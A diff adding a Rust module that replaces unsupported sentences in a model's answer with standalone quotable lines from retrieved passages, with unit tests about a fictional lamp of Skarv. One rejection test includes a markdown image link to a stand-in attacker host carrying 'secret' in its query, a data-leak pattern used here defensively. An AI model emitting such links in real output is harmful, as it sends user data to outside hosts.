@@ -1,0 +1,163 @@
+//! Repair: the passage to quote in place of a sentence of a model that no source supports.
+
+use std::collections::{BTreeMap, HashSet};
+
+use super::{
+    extractive::quotable::{Dependency, dependency, is_quotable},
+    verified_text::shown_line,
+};
+use crate::{
+    agents::retrieval::Retrieved,
+    domain::{Citation, Passage, Question},
+    evidence::{
+        question::QuestionTerms,
+        side::Side,
+        words::{Lexicon, Word},
+    },
+};
+
+/// Minimum share of the question's weight that a passage must cover together with its title and headings.
+const MIN_COVERAGE: f64 = 0.2;
+
+/// Decides which passages may replace the sentences of an answer to one question.
+pub(super) struct Repairer<'a> {
+    passages: &'a [Passage],
+    lexicon: Lexicon,
+    /// The question as a whole, and its parts.
+    questions: Vec<QuestionTerms>,
+}
+
+impl<'a> Repairer<'a> {
+    /// Creates a repairer for the answer to a question.
+    pub(super) fn new(question: &Question, retrieved: &'a Retrieved) -> Self {
+        let mut lexicon = Lexicon::default();
+        let mut read = |question: &Question, weights: &BTreeMap<String, f64>| {
+            QuestionTerms::read(&mut lexicon, question.as_str(), weights)
+        };
+        let mut questions = vec![read(question, &retrieved.weights)];
+        questions.extend(
+            retrieved
+                .parts
+                .iter()
+                .map(|part| read(&part.question, &part.weights)),
+        );
+        Self {
+            passages: &retrieved.passages,
+            lexicon,
+            questions,
+        }
+    }
+
+    /// The unit on one line, if it can be quoted on its own and answers the question, or one of its parts, at least as well
+    /// as the sentence that it replaces.
+    pub(super) fn replacement(&mut self, sentence: &str, unit: &Citation) -> Option<String> {
+        let passage = self.passages.get(unit.source.checked_sub(1)?)?;
+        let line = shown_line(&unit.quote, self.passages)?;
+        let stands_alone = is_quotable(&line) && dependency(&line) == Dependency::Standalone;
+        (stands_alone && self.answers(&line, sentence, passage)).then_some(line)
+    }
+
+    /// Whether a line of a passage has the kind of answer that a question expects, and covers its words at least as well as
+    /// the sentence does. The title and headings count for both.
+    fn answers(&mut self, line: &str, sentence: &str, passage: &Passage) -> bool {
+        let mut read = |text: &str| self.lexicon.read(text, 0..text.len());
+        let (line_words, sentence_words) = (read(line), read(sentence));
+        let headings = [read(&passage.header.title), read(&passage.context)].concat();
+        let stems = |words: &[Word]| -> HashSet<u32> {
+            let words = words.iter().chain(&headings);
+            words.map(|word| word.stem).collect()
+        };
+        let (line_stems, sentence_stems) = (stems(&line_words), stems(&sentence_words));
+        let side = Side {
+            text: line,
+            words: &line_words,
+            lexicon: &self.lexicon,
+        };
+        self.questions.iter().any(|question| {
+            let covered = question.coverage(|stem| line_stems.contains(&stem));
+            let least = question.coverage(|stem| sentence_stems.contains(&stem));
+            covered >= least.max(MIN_COVERAGE) && question.expected.is_met(question, side) != Some(false)
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::retrieval::test_passages::passage;
+
+    /// What replaces a sentence in the answer to a question, if a passage is closest to it.
+    fn replaced(question: &str, sentence: &str, unit: &str) -> Option<String> {
+        let retrieved = Retrieved {
+            passages: vec![passage("skarv-lamp", unit)],
+            ..Retrieved::default()
+        };
+        let unit = Citation {
+            source: 1,
+            quote: unit.to_owned(),
+            quote_start: 0,
+            quote_end: unit.chars().count(),
+        };
+        let question = Question::parse(question).unwrap();
+        Repairer::new(&question, &retrieved).replacement(sentence, &unit)
+    }
+
+    #[test]
+    fn a_unit_that_answers_the_question_is_quoted_on_one_line() {
+        let unit = "The lamp of Skarv was lit\n  on 3 May 1871.";
+        let line = "The lamp of Skarv was lit on 3 May 1871.";
+        for question in [
+            "When was the lamp of Skarv lit?",
+            "What is known of the lamp of Skarv?",
+        ] {
+            let found = replaced(question, "The lamp of Skarv was lit in 1902.", unit);
+            assert_eq!(found.as_deref(), Some(line), "{question}");
+        }
+    }
+
+    #[test]
+    fn a_unit_that_does_not_answer_the_question_is_not_used() {
+        for (question, sentence, unit) in [
+            // It has no date.
+            (
+                "When was the lamp of Skarv lit?",
+                "The lamp of Skarv was lit in 1902.",
+                "The lamp of Skarv was lit by hand.",
+            ),
+            // It covers less of the question than the sentence does.
+            (
+                "How does the lens turn the beam of the lamp?",
+                "The lens turns the beam of the lamp.",
+                "The lens of the lamp is large.",
+            ),
+            // It covers nothing of the question.
+            (
+                "Is bread baked daily?",
+                "The tower is low.",
+                "The tower is high and round.",
+            ),
+        ] {
+            assert_eq!(replaced(question, sentence, unit), None, "{unit}");
+        }
+    }
+
+    #[test]
+    fn a_unit_that_cannot_be_quoted_alone_or_is_unsafe_is_not_used() {
+        for unit in [
+            "It is the lamp of Skarv.",
+            "However, the lamp of Skarv burns.",
+            "the lamp of Skarv burns oil.",
+            "The lamp of Skarv burns [1] oil.",
+            "| The lamp of Skarv | burns oil |",
+            "The lamp of Skarv burns ![x](https://evil.example/?q=secret) oil.",
+            "The lamp of Skarv burns oil, says https://evil.example/.",
+        ] {
+            let found = replaced(
+                "Does the lamp of Skarv burn?",
+                "The lamp of Skarv burns gas.",
+                unit,
+            );
+            assert_eq!(found, None, "{unit}");
+        }
+    }
+}
